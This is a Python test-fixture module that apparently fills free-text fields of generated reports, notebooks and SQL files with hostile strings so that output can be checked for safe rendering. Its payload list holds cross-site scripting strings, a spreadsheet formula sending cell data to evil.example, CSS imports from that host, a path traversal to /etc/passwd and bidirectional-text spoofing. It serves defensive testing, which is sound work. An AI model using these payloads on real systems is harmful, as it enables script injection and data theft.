"""The payloads of every family with strings of an attacker in each place that people or sources write freely.

A value is replaced wherever it stands, so that what was linked stays linked: the pages must be whole, and inert.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from evidence_kit.pages.payload import Payload

#: What may come out of a database. A lone surrogate is refused where rows are read, so none gets here.
STRINGS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "java\tscript:alert(1)",
    "javascript:alert(1)//",
    "</title></style></pre></td></table><script>alert(1)</script>",
    "<a href=http://evil.example>x</a><form action=http://evil.example><input autofocus onfocus=alert(1)>",
    "approved\u202egnp.exe\u202c \u2066isolated\u2069 \u200fright",
    "zero\u200bwidth\u200djoin\ufeff\u2060hidden\U000e0041",
    "\x00nul \x07bell \x1b[31mred \x7fdel \x85next \x9b31m",
    "line\nfeed\r\nreturn\u2028separator",
    "Z" + "\u0301\u0323\u0342" * 40 + "algo",
    "👩‍👩‍👧‍👦🏳️‍🌈 طلب שלום 漢字",
    "W" * 10_000,
    "{{ 7 * 7 }} {% raw %} ${7*7} &lt;b&gt; &#x202e; %3Cscript%3E",
    "url(http://evil.example/x.png) } body { display: none } @import 'http://evil.example';",
    "../../../../etc/passwd#r1?x=http://evil.example",
)
#: Keys of rows and of other documents whose texts people or sources choose.
FREE = frozenset(
    "account_key name title unit unit_id request_id case_id object source target probe_id recipient_id pair_id "
    "processor_id destination purposes recipient_categories third_countries security_measures subject_categories "
    "client_categories controller_contact data_categories legal_basis visit_note_ref activity_id rule_id run_id "
    "document_id commitment_id review_id campaign_id template_id field_name column_name data_type reason note "
    "explanation unreadable keep configured_keep notice_keep start not_searched place canary suppression en fr "
    "role seen_in named_like exemption return_cause schedule channel status outcome kind country".split()
)
#: Parts of documents whose texts are of the kit's own vocabulary.
CLOSED = frozenset({"limit", "parameters", "needs", "working"})
_PLAIN = re.compile(r"\d{4}-\d\d-\d\d.*|[0-9a-f]{64}|[0-9.]+|", re.DOTALL)


def poisoned(payload: Payload) -> Payload:
    """The payload with each free text, distinct ones with distinct strings, replaced wherever it is a whole value."""
    free = dict.fromkeys(text for path, value in payload.files.items() for text in _free(path, value))
    swap = {text: f"{STRINGS[place % len(STRINGS)]} {place}" for place, text in enumerate(free)}
    return Payload({path: _swapped(path, value, swap) for path, value in payload.files.items()})


def _free(path: str, value: object) -> Iterator[str]:
    if path.startswith(("frames/", "results/", "expectations/")) or path in ("engagement.json", "controls.json"):
        yield from _texts(value)


def _texts(value: object, key: str = "") -> Iterator[str]:
    match value:
        case Mapping():
            for name, each in value.items():
                if name not in CLOSED:
                    yield from _texts(each, name)
        case list():
            for each in value:
                yield from _texts(each, key)
        case str() if key in FREE and not _PLAIN.fullmatch(value):
            yield value


def _swapped(path: str, value: Any, swap: Mapping[str, str]) -> Any:
    match value:
        case Mapping() if path.endswith(".ipynb"):
            return _notebook(value)
        case Mapping():
            return {name: _swapped(path, each, swap) for name, each in value.items()}
        case list():
            return [_swapped(path, each, swap) for each in value]
        case str() if path.startswith("sql/"):
            return value + "\n-- " + "\n-- ".join(STRINGS)
        case str():
            return swap.get(value, value)
    return value


def _notebook(value: Mapping[str, Any]) -> dict[str, Any]:
    """The notebook with a cell of prose, one of code and one output of each kind for every string."""
    texts = "\n\n".join(STRINGS)
    output = [
        {"output_type": "stream", "name": "stdout", "text": texts},
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": texts}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/plain": texts}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": f"<svg><text>{texts}</text></svg>"}},
    ]
    cells: list[dict[str, Any]] = [
        {"cell_type": "markdown", "id": "hostile-prose", "metadata": {}, "source": texts},
        {
            "cell_type": "code",
            "id": "hostile-code",
            "metadata": {},
            "execution_count": 1,
            "source": texts,
            "outputs": output,
        },
    ]
    return {**value, "cells": [*value["cells"], *cells]}
